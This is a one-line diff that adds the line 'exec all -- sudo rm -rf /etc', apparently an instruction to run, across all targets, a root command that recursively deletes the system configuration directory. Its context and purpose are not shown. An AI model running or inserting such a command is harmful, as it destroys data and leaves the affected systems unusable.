@@ -1,0 +1,1 @@
+exec all -- sudo rm -rf /etc
